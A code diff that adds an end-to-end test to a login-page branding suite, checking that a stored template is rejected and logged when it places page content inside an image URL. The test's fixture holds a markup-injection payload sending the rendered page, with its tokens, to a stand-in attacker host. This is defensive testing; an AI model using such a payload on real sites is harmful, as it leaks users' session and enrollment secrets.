@@ -179,6 +179,27 @@ public sealed class BrandingEndToEndTests
     }
 
     [Test]
+    public async Task StoredTemplateWithThePageInsideAnImagesUrl_PageUsesTheDefaultLayout_AndNoImageCarriesThePage()
+    {
+        // As a template saved before where the content stands was checked: the page's markup, up to the next quote, was the
+        // URL of an image on another site (its antiforgery token and return URL with it; on the enrollment page the key).
+        await StoreTemplateDirectlyAsync("<header>Acme</header><img alt=\"\" src=\"https://evil.example/c?{{ content }}\">");
+
+        using var browser = new FormBrowser();
+        var login = await browser.GetAsync(app.BaseUrl + "/login");
+
+        var log = await ReadSharedAsync(LogFile);
+        Assert.Multiple(() =>
+        {
+            Assert.That(login.Document.Images.Select(image => image.GetAttribute("src")), Has.None.Contains("evil.example"));
+            Assert.That(login.Text("tenant-name"), Is.EqualTo("Acme"), "the default layout");
+            Assert.That(login.Document.GetElementById("password"), Is.Not.Null, "never a blank page");
+            Assert.That(log.Split('\n').Where(line => line.Contains("\"Id\":1260", StringComparison.Ordinal) && line.Contains("between elements, not inside a tag", StringComparison.Ordinal)),
+                Has.One.Contains($"\"TenantId\":\"{Tenant}\""), "logged once, with the tenant and the reason");
+        });
+    }
+
+    [Test]
     public async Task HostedPages_ContentSecurityPolicy_AllowsOnlyScriptsWithTheResponsesNonce()
     {
         await api.PutAsync("/branding", new { displayName = "Acme", pageTemplate = Template });
